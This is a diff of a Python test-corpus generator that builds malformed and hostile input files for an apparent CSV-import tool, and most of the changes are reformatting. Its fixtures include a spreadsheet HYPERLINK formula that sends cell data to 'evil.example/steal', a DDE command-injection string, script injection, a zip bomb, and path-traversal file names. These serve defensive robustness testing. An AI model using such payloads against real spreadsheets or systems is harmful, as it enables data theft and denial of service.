@@ -20,8 +20,14 @@ from pathlib import Path
 
 from assess.demo import ODK_CSV_PATH
 
-NASTY = ('=HYPERLINK("http://evil.example/steal?d="&A1,"click me")', "<script>alert('x')</script>",
-         "file:///etc/passwd", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
+NASTY = (
+    '=HYPERLINK("http://evil.example/steal?d="&A1,"click me")',
+    "<script>alert('x')</script>",
+    "file:///etc/passwd",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+)
 MEGA = "x" * 1_000_000  # a 1 MB cell
 MAX_NAME_BYTES = 255  # Linux NAME_MAX
 
@@ -89,7 +95,9 @@ def zip_bomb(path: Path, expanded_bytes: int = 1_100_000_000) -> None:
     size, csize = len(chunk) * repeats, len(block) * repeats + len(tail)
     assert size < 0xFFFFFFFF, "keep below 4 GB: no zip64 records here"
     name = b"xl/worksheets/sheet1.xml"
-    ctypes = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+    ctypes = (
+        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+    )
     with open(path, "wb") as fh:
         entries = []
 
@@ -112,8 +120,28 @@ def zip_bomb(path: Path, expanded_bytes: int = 1_100_000_000) -> None:
         member(name, write_bomb, crc, csize, size)
         cd_start = fh.tell()
         for fname, c, cs, s, off in entries:
-            fh.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, c, cs, s, len(fname),
-                                 0, 0, 0, 0, 0, off))
+            fh.write(
+                struct.pack(
+                    "<IHHHHHHIIIHHHHHII",
+                    0x02014B50,
+                    20,
+                    20,
+                    0,
+                    8,
+                    0,
+                    0,
+                    c,
+                    cs,
+                    s,
+                    len(fname),
+                    0,
+                    0,
+                    0,
+                    0,
+                    0,
+                    off,
+                )
+            )
             fh.write(fname)
         cd_size = fh.tell() - cd_start
         fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), cd_size, cd_start, 0))
@@ -165,8 +193,10 @@ def write_corpus(demo_dir: Path, dest: Path, *, dry: bool = False) -> list[Case]
     # --- encodings and separators that are readable: accepted with a warning
     latin = _set(header, rows_for("latin1"), "comments", ["Pas d'accès à l'eau potable, café"] * len(base))
     add(Case("latin1.csv", "loaded", "Latin-1", rows=len(base)), _csv_text(header, latin), "latin-1")
-    add(Case("utf16.csv", "loaded", "UTF-16", rows=len(base)),
-        codecs.BOM_UTF16_LE + _csv_text(header, rows_for("utf16")).encode("utf-16-le"))
+    add(
+        Case("utf16.csv", "loaded", "UTF-16", rows=len(base)),
+        codecs.BOM_UTF16_LE + _csv_text(header, rows_for("utf16")).encode("utf-16-le"),
+    )
     add(Case("semicolon.csv", "loaded", rows=len(base)), _csv_text(header, rows_for("semicolon"), ";"))
     add(Case("tabs.tsv", "loaded", "tab", rows=len(base)), _csv_text(header, rows_for("tabs"), "\t"))
 
@@ -183,35 +213,48 @@ def write_corpus(demo_dir: Path, dest: Path, *, dry: bool = False) -> list[Case]
 
     # --- shape problems
     wide = [f"extra_{i}" for i in range(10_000 - len(header))]
-    add(Case("ten_thousand_columns.csv", "rejected", "columns"),
-        _csv_text(header + wide, [r + [""] * len(wide) for r in rows_for("wide")]))
+    add(
+        Case("ten_thousand_columns.csv", "rejected", "columns"),
+        _csv_text(header + wide, [r + [""] * len(wide) for r in rows_for("wide")]),
+    )
     dup = [*header, "household-hh_size", "household-hh_size"]
-    add(Case("duplicated_columns.csv", "loaded", "repeats an earlier column name", rows=len(base)),
-        _csv_text(dup, [[*r, "99", "98"] for r in rows_for("dup")]))
+    add(
+        Case("duplicated_columns.csv", "loaded", "repeats an earlier column name", rows=len(base)),
+        _csv_text(dup, [[*r, "99", "98"] for r in rows_for("dup")]),
+    )
     reserved = [*header, "round", "source_file", "submission_id", "_row", "_sid"]
-    add(Case("reserved_column_names.csv", "loaded", rows=len(base)),
-        _csv_text(reserved, [[*r, "R9", "evil.csv", "x", "7", "y"] for r in rows_for("reserved")]))
+    add(
+        Case("reserved_column_names.csv", "loaded", rows=len(base)),
+        _csv_text(reserved, [[*r, "R9", "evil.csv", "x", "7", "y"] for r in rows_for("reserved")]),
+    )
     other_header = ["KEY", "SubmissionDate", "crop", "yield_kg", "field_size", "irrigated", "farmer_group"]
     other_rows = [[f"uuid:other-{i}", "2026-11-02", "maize", "1200", "2.5", "yes", "G1"] for i in range(12)]
-    add(Case("other_form.csv", "rejected", "does not look like an export"), _csv_text(other_header, other_rows))
+    add(
+        Case("other_form.csv", "rejected", "does not look like an export"),
+        _csv_text(other_header, other_rows),
+    )
 
     # --- hostile cell contents: loaded as plain text, never executed
     hostile = rows_for("hostile")
     hostile = _set(header, hostile, "comments", [*NASTY, MEGA] + [""] * (len(base) - len(NASTY) - 1))
     extra = [*NASTY, MEGA] + ["ok"] * (len(base) - len(NASTY) - 1)
-    add(Case("hostile_cells.csv", "loaded", rows=len(base)),
-        _csv_text([*header, "notes_extra"], [[*r, e] for r, e in zip(hostile, extra, strict=True)]))
+    add(
+        Case("hostile_cells.csv", "loaded", rows=len(base)),
+        _csv_text([*header, "notes_extra"], [[*r, e] for r, e in zip(hostile, extra, strict=True)]),
+    )
 
     # --- hostile and awkward file names (contents are fine)
-    for i, name in enumerate([
-        "x ..%2f..%2fetc%2fpasswd.csv",
-        "a..b....csv",
-        "export with  spaces (copy 2).csv",
-        "données_été_ñ_العربية_数据.csv",
-        "\U00020000" * 62 + ".csv",  # 4-byte letters: 252 bytes
-        longest_name("é"),
-        longest_name("a"),
-    ]):
+    for i, name in enumerate(
+        [
+            "x ..%2f..%2fetc%2fpasswd.csv",
+            "a..b....csv",
+            "export with  spaces (copy 2).csv",
+            "données_été_ñ_العربية_数据.csv",
+            "\U00020000" * 62 + ".csv",  # 4-byte letters: 252 bytes
+            longest_name("é"),
+            longest_name("a"),
+        ]
+    ):
         assert len(name.encode()) <= MAX_NAME_BYTES, name
         add(Case(name, "loaded", rows=len(base)), _csv_text(header, rows_for(f"name{i}")))
     return cases
